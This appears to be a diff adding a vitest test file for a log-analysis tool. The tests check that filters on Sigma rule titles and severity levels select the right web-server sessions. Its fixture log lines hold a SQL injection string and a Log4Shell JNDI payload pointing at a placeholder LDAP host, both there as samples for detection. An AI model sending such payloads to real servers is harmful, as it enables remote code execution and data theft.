@@ -1,0 +1,82 @@
+// The filter terms over rule hits: `sigma:` (title, any part and case, or id) and `level:` (one
+// level, a list, or `>=level`), parsed by the filter language and run as SQL on a real database.
+import fs from 'node:fs';
+import path from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { suggestValues } from '../../../src-main/core/db/analytics-suggest.js';
+import { type Db, openDatabase } from '../../../src-main/core/db/open.js';
+import { sessionPage } from '../../../src-main/core/db/sessions.js';
+import { runImport } from '../../../src-main/core/ingest/pipeline.js';
+import { parseFilter, parseFilterOrThrow, serializeFilter } from '../../../src-shared/filter/index.js';
+import { createTempDirs } from '../../helpers/temp.js';
+
+const tempDir = createTempDirs();
+
+const LINES = [
+  '192.0.2.1 - - [12/Feb/2024:10:00:00 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"',
+  `192.0.2.2 - - [12/Feb/2024:10:00:01 +0000] "GET /p.php?id=1%27%20UNION%20SELECT%20null,null-- HTTP/1.1" 200 90 "-" "Mozilla/5.0"`,
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template.
+  '192.0.2.3 - - [12/Feb/2024:10:00:02 +0000] "GET /?x=${jndi:ldap://203.0.113.66/a} HTTP/1.1" 200 0 "-" "Mozilla/5.0"',
+  '192.0.2.4 - - [12/Feb/2024:10:00:03 +0000] "GET /wp-login.php HTTP/1.1" 404 0 "-" "Mozilla/5.0 zgrab/0.x"',
+];
+
+let db: Db;
+beforeAll(async () => {
+  const dir = tempDir();
+  fs.writeFileSync(path.join(dir, 'a.log'), `${LINES.join('\n')}\n`);
+  db = openDatabase(path.join(dir, 'v.db'));
+  await runImport(db, { file: path.join(dir, 'a.log'), enrich: false });
+  return () => db.close();
+});
+
+const sources = (filter: string) =>
+  sessionPage(db, {
+    filter: { clauses: parseFilterOrThrow(filter) },
+    sort: 'srcIp',
+    direction: 'asc',
+    offset: 0,
+    limit: 100,
+  }).items.map((session) => session.srcIp);
+
+describe('sigma: and level:', () => {
+  it('finds sessions by a rule title in any case and part, or by the rule id', () => {
+    expect(sources('sigma:"sql INJECTION"')).toEqual(['192.0.2.2']);
+    expect(sources('sigma:jndi')).toEqual(['192.0.2.3']);
+    expect(sources('sigma:496a161d-9950-408c-ac81-42dff6ad54ad')).toEqual(['192.0.2.3']);
+    expect(sources('-sigma:jndi')).toEqual(['192.0.2.1', '192.0.2.2', '192.0.2.4']);
+    expect(sources('sigma:"no rule is called this"')).toEqual([]);
+  });
+
+  it('finds sessions by level, a list of levels, or a level and above', () => {
+    expect(sources('level:critical')).toEqual(['192.0.2.3']);
+    expect(sources('level:high')).toEqual(['192.0.2.2']);
+    expect(sources('level:>=high')).toEqual(['192.0.2.2', '192.0.2.3']);
+    expect(sources('level:High,CRITICAL')).toEqual(['192.0.2.2', '192.0.2.3']);
+    expect(sources('level:medium')).toEqual(['192.0.2.4']);
+    expect(sources('level:>=informational')).toEqual(['192.0.2.2', '192.0.2.3', '192.0.2.4']);
+  });
+
+  it('reads `>=high` back as the levels it stands for, and refuses what is no level', () => {
+    expect(serializeFilter(parseFilterOrThrow('level:>=high'))).toBe('level:high,critical');
+    expect(serializeFilter(parseFilterOrThrow('level:<low'))).toBe('level:informational');
+    const bad = parseFilter('level:severe');
+    expect(bad.ok).toBe(false);
+    if (!bad.ok)
+      expect(bad.error.message).toMatch(
+        /"severe" is not a level \(informational, low, medium, high, critical\)/,
+      );
+    expect(parseFilter('level:>critical').ok).toBe(false);
+  });
+
+  it('keeps status: an alias of code:', () => {
+    expect(serializeFilter(parseFilterOrThrow('status:>=400'))).toBe('code:>=400');
+    expect(sources('status:404')).toEqual(['192.0.2.4']);
+  });
+
+  it('suggests the titles of rules with hits', () => {
+    expect(suggestValues(db, 'sigma', 'inj', 10).map((value) => value.value)).toEqual([
+      expect.stringMatching(/injection/i),
+      expect.stringMatching(/injection/i),
+    ]);
+  });
+});
